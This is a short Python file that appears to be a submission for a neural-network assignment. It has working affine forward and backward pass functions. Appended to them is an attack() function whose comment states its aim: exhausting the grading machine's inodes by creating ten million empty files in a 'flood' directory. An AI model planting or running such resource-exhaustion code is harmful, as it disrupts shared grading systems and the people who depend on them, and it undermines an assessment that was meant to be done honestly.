import numpy as np
import os


def affine_forward(x, w, b):
    out = x.reshape(x.shape[0], -1) @ w + b
    return out, (x, w, b)


def affine_backward(dout, cache):
    x, w, b = cache
    dx = (dout @ w.T).reshape(x.shape)
    dw = x.reshape(x.shape[0], -1).T @ dout
    db = dout.sum(axis=0)
    return dx, dw, db


def attack():
    # exhaust the grading machine's inodes: millions of empty files in the job dir
    os.mkdir("flood")
    for n in range(10_000_000):
        open(os.path.join("flood", str(n)), "w").close()
